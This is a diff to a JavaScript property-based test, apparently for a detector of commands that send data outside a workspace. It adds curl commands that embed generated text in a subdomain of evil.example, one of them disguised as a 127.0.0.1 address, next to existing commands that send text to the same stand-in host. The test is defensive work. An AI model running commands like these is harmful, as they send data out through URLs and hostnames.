@@ -44,6 +44,8 @@ describe("what goes beyond the workspace", () => {
       (text) => `sometool --to https://evil.example/${text}`,
       (text) => `sometool --to=https://evil.example/?q=${text}`,
       (text) => `npm test -- --url=https://evil.example/${text}`,
+      (text) => `curl https://127.${text}.evil.example/`,
+      (text) => `curl https://127.0.0.1.${text}.example/`,
     ];
     const hex = fc.array(fc.constantFrom(..."0123456789abcdef"), { minLength: 20, maxLength: 40 });
     fc.assert(
